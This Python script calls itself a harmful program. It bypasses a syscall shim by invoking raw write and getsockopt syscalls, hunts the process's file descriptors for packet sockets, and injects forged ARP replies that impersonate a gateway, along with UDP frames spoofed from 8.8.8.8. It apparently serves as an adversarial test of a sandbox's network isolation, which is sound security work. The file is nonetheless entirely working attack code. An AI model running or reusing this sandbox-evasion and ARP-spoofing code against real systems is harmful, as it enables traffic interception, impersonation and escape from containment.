#!/usr/bin/env python3
"""A program that means harm, over the shim: it has an interface to itself, finds the sockets that it sends by, and forges frames.

usage: forger.py ADDRESS PORT LOCAL FAR    connects there first, so that it has the interface; LOCAL is the host's address on it, FAR whom
it lies to.
Prints how many packet sockets it has and how many frames the kernel took; ends with its standard input."""

import ctypes
import os
import socket
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
WRITE, GETSOCKOPT = {"x86_64": (1, 55), "aarch64": (64, 209)}[os.uname().machine]     # past the shim
SOL_SOCKET, SO_DOMAIN = 1, 39
FORGED = bytes.fromhex("02deadbeef01")


def packet_sockets():
    """All of this process, whose numbers the shim keeps to itself."""
    for fd in range(1 << 16):
        domain, size = ctypes.c_int(), ctypes.c_uint(4)
        if LIBC.syscall(GETSOCKOPT, fd, SOL_SOCKET, SO_DOMAIN, ctypes.byref(domain), ctypes.byref(size)) == 0:
            if domain.value == socket.AF_PACKET:
                yield fd


def arp(mac, address, far):
    return (b"\xff" * 6 + mac + bytes.fromhex("08060001080006040002") + mac + socket.inet_aton(address) +
            b"\xff" * 6 + socket.inet_aton(far))


def datagram(mac, address, far):
    return (b"\xff" * 6 + mac + b"\x08\x00" + struct.pack(">BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + socket.inet_aton(address) +
            socket.inet_aton(far) + struct.pack(">HHHH", 53, 53, 8, 0))


def main():
    address, port, local, far = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    s = socket.create_connection((address, port))
    fds = list(packet_sockets())
    took = 0
    for frame in (arp(FORGED, "10.77.0.254", far), arp(FORGED, local, far), datagram(FORGED, "8.8.8.8", far),
                  datagram(FORGED, local, far)):
        whole = bytes(10) + frame.ljust(60, b"\0")
        took += sum(LIBC.syscall(WRITE, fd, whole, len(whole)) == len(whole) for fd in fds)
    print(len(fds), took, flush=True)
    sys.stdin.read()
    s.close()


if __name__ == "__main__":
    main()
